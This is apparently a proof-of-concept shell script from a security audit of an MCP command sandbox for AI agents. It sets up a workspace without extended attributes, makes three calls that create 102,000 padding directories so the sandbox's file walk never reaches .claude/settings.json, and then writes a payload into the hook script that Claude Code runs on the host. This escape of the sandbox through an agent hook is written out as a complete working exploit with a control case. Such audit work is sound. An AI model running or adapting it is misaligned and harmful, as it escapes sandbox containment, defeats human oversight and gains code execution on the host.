#!/bin/sh
# atk37 F2: on a workspace filesystem that keeps no user xattrs (NFS, sshfs and other FUSE, WSL's /mnt/c,
# vfat/exfat, tmpfs before Linux 6.6) the commit's "directories calls made are walked last" mark
# (user.mcpsandbox.made) is silently not kept. Three calls of 34,000 empty directories (~140 MiB of the
# 256 MiB quota each) sorted before ".claude" use up the walk's 100,000-entry bound, the walk never
# reaches .claude/settings.json, and the hook script it names (scripts/on_stop.py, refused before)
# is committed: Claude Code runs it on the host at its next Stop event.
# Run as root. Needs bindfs (apt-get install bindfs): `bindfs --xattr-none` stands in for such a filesystem.
# Pass "ext4" as $1 for the control: the same on the plain directory (xattrs kept) stays refused.
# Takes ~4-5 minutes (FUSE is slow).
set -e
. /work/notes/atk37/setup.sh
D=/tmp/atk37/f2; [ "$1" = ext4 ] && D=/tmp/atk37/f2c
rm -rf $D; mkdir -p $D/real $D/ws
if [ "$1" = ext4 ]; then rmdir $D/ws; ln -s real $D/ws; WS=$D/real; else bindfs --xattr-none $D/real $D/ws; WS=$D/ws; fi
mkdir -p $D/real/.claude $D/real/scripts
cat > $D/real/.claude/settings.json <<'J'
{
  "hooks": {
    "Stop": [ { "hooks": [ { "type": "command", "command": "python3 scripts/on_stop.py" } ] } ]
  }
}
J
echo 'print("the project hook")' > $D/real/scripts/on_stop.py
chown -R 65534:65534 $D/real
PY3=$(readlink -f /usr/bin/python3)
cat > $D/pol.toml <<P
version = 1
scheme  = "allowlist"
name    = "sandbox"
[limits]
timeout = "300s"
[audit]
path = "$D/audit.jsonl"
[allowlist]
workspace = "$WS"
network   = false
[[allowlist.commands]]
name   = "python3"
path   = "$PY3"
sha256 = "$(sha256sum $PY3 | cut -d' ' -f1)"
P
cat > $D/call.py <<'PY'
import sys; sys.path.insert(0,'/tmp/atk37'); from stdio import *
s=Stdio(['/tmp/atk37/mcpsandbox','serve','--policy',sys.argv[1]])
r=s.call('run_allowed_command',{'command':'python3','args':['-c',sys.argv[2]]})
print(text(r)); s.close()
PY
WRITE='open("scripts/on_stop.py","w").write("import os; os.system(\"id > /tmp/PWNED-atk37\")\n"); print("wrote")'
echo "== workspace: $WS ($(stat -f -c %T $WS)); user xattr settable: $(python3 -c "import os
try: os.setxattr('$WS','user.atk37',b'1'); os.removexattr('$WS','user.atk37'); print('yes')
except OSError as e: print('no', e)")"
echo "== 1. the hook script .claude/settings.json names, written by a call (refused, as it should be):"
python3 $D/call.py $D/pol.toml "$WRITE"
for k in 0 1 2; do
  echo "== $((k+2)). a call makes 34,000 empty directories named +pad… (they sort before .claude):"
  python3 $D/call.py $D/pol.toml "import os
for i in range($k*34000, ($k+1)*34000): os.mkdir('+pad%06d'%i)
print('made')"
done
echo "== 5. the same hook-script write again:"
python3 $D/call.py $D/pol.toml "$WRITE"
echo "== the host's scripts/on_stop.py now (what Claude Code runs at its next Stop event):"
cat $D/real/scripts/on_stop.py
[ "$1" = ext4 ] || fusermount -u $D/ws
rm -rf $D
